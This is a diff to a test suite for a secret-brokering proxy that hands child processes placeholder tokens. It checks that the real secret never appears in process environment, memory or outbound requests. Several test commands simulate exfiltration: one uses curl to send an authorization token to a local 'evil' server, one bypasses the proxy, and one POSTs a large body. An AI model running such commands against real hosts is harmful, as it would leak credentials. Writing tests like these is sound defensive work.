@@ -5,7 +5,7 @@
 // Real hook, real broker and proxy, real clients; the child writes straight to files (not through
 // `hookpack exec`'s output masking), so what is checked is what the child itself held.
 import { spawn } from "node:child_process";
-import { closeSync, existsSync, openSync, readFileSync, readSync } from "node:fs";
+import { closeSync, existsSync, openSync, readFileSync, readSync, writeFileSync } from "node:fs";
 import { createServer as createHttpServer, type Server } from "node:http";
 import { join } from "node:path";
 import { gunzipSync } from "node:zlib";
@@ -101,17 +101,19 @@ function memoryHolds(pid: number, needles: string[]): boolean {
 describe("phantom tokens: what the child holds", () => {
   it("/proc/<pid>/environ and cmdline of the running child hold the placeholder, never the value; its memory neither", async () => {
     const pidFile = file("child.pid");
-    const running = brokered(`echo $$ > ${pidFile}; curl -sS -H "Authorization: Bearer $secret:API" ${api.url}/echo > ${file("resp1")}; sleep 3; true`);
+    // One-process delivery: the program that receives the reference (here a bash that runs curl) is
+    // the only one holding the placeholder; it is in its environment as TOKEN.
+    const running = brokered(`TOKEN=$secret:API bash -c 'echo $$ > ${pidFile}; curl -sS -H "Authorization: Bearer $TOKEN" ${api.url}/echo > ${file("resp1")}; sleep 3; true'`);
     await waitFor(() => existsSync(pidFile) && existsSync(file("resp1")) && read("resp1").length > 0, 20_000);
     const pid = Number(readFileSync(pidFile, "utf8").trim());
     const environ = readFileSync(`/proc/${pid}/environ`, "latin1");
-    expect(environ).toMatch(/HOOKPACK_SECRET_API=hookpack_phantom_\w+/);
+    expect(environ).toMatch(/TOKEN=hookpack_phantom_\w+/);
     expect(environ).toMatch(/HTTPS_PROXY=http:\/\/127\.0\.0\.1:\d+/);
     expect(attempt("environ", !leaks(environ))).toBe(true);
     expect(attempt("environ", !leaks(readFileSync(`/proc/${pid}/cmdline`, "latin1")))).toBe(true);
     expect(attempt("memory", !memoryHolds(pid, encodings(value)))).toBe(true);
     // Control: the scan does find what the child does hold.
-    const placeholder = /HOOKPACK_SECRET_API=(hookpack_phantom_\w+)/.exec(environ)![1]!;
+    const placeholder = /TOKEN=(hookpack_phantom_\w+)/.exec(environ)![1]!;
     expect(memoryHolds(pid, [placeholder])).toBe(true);
     const r = await running;
     expect(r.status).toBe(0);
@@ -122,9 +124,9 @@ describe("phantom tokens: what the child holds", () => {
   const py = pythonWithRequests();
   it.skipIf(!py.python)(`a Python (requests) client's memory after the request${py.why ? ` (skipped: ${py.why})` : ""}`, async () => {
     const pidFile = file("py.pid");
-    const running = brokered(
-      `${py.python} -c 'import os,sys,time,requests; r=requests.get(sys.argv[1]+"/enc",headers={"Authorization":"Bearer "+sys.argv[4]}); open(sys.argv[2],"w").write(r.text); open(sys.argv[3],"w").write(str(os.getpid())); time.sleep(3)' ${api.url} ${file("resp-py")} ${pidFile} "$secret:API"`,
-    );
+    // A script file (inline code that computes file names is refused by the read guard).
+    writeFileSync(file("req.py"), 'import os,sys,time,requests\nr=requests.get(sys.argv[1]+"/enc",headers={"Authorization":"Bearer "+sys.argv[4]})\nopen(sys.argv[2],"w").write(r.text)\nopen(sys.argv[3],"w").write(str(os.getpid()))\ntime.sleep(3)\n');
+    const running = brokered(`${py.python} ${file("req.py")} ${api.url} ${file("resp-py")} ${pidFile} "$secret:API"`);
     await waitFor(() => existsSync(pidFile) && read("py.pid").length > 0, 20_000);
     const pid = Number(read("py.pid"));
     expect(api.seen.at(-1)!.headers.authorization).toBe(`Bearer ${value}`);
@@ -180,14 +182,21 @@ describe("phantom tokens: sending the placeholder anywhere else", () => {
       const before = { evil: evil.seen.length, plain: plainSeen.length };
       const r = await brokered(make({ api: api.port, evil: evil.port, plain: plainPort }));
       const forwarded = evil.seen.slice(before.evil).length + plainSeen.slice(before.plain).length;
-      expect(r.stdout).toBe("403");
+      if (label.includes("large POST body")) {
+        // One-process delivery: only printf gets (the proxy's placeholder for) the value; the curl
+        // that sends the file is not brokered, has no proxy and does not trust the broker's CA, so
+        // it fails. Whatever it sends, the value was never in that file.
+        expect(attempt("exfiltration", !leaks(read("big")) && !leaks(JSON.stringify(evil.seen)))).toBe(true);
+        return;
+      }
+      expect(r.stdout, r.stderr).toBe("403");
       expect(attempt("exfiltration", forwarded === 0 && !leaks(JSON.stringify(evil.seen)) && !leaks(plainSeen.join("\n")))).toBe(true);
     });
   }
 
   it("around the proxy (--noproxy) or after the run, the placeholder is worth nothing: upstreams never see the value", async () => {
     const before = evil.seen.length;
-    await brokered(`echo "$secret:API" > ${file("saved-ph")}; printenv HTTPS_PROXY > ${file("saved-proxy")}; curl -sS --noproxy '*' --cacert ${caFile} -H "Authorization: Bearer $secret:API" https://localhost:${evil.port}/echo > /dev/null`);
+    await brokered(`T=$secret:API bash -c 'printf %s "$T" > ${file("saved-ph")}; printenv HTTPS_PROXY > ${file("saved-proxy")}; curl -sS --noproxy "*" --cacert ${caFile} -H "Authorization: Bearer $T" https://localhost:${evil.port}/echo > /dev/null'`);
     expect(evil.seen.length).toBe(before + 1);
     expect(String(evil.seen.at(-1)!.headers.authorization)).toMatch(/^Bearer hookpack_phantom_/);
     // The run is over: the saved placeholder through the saved proxy reaches the allowed host as itself.
@@ -204,7 +213,8 @@ describe("phantom tokens: sending the placeholder anywhere else", () => {
 
   it("every refusal is in the audit log, with no value", () => {
     const refused = readAudit(sb).filter((e) => e.kind === "inject" && e.refused);
-    expect(refused.length).toBeGreaterThanOrEqual(cases.length);
+    // Every case but the large body (whose sender is not brokered, see above) was refused by the proxy.
+    expect(refused.length).toBeGreaterThanOrEqual(cases.length - 1);
     expect(new Set(refused.map((e) => e.refused))).toEqual(new Set(["INJECT_HOST", "INJECT_PLAINTEXT", "INJECT_BODY"]));
     expect(leaks(JSON.stringify(readAudit(sb)))).toBe(false);
   });
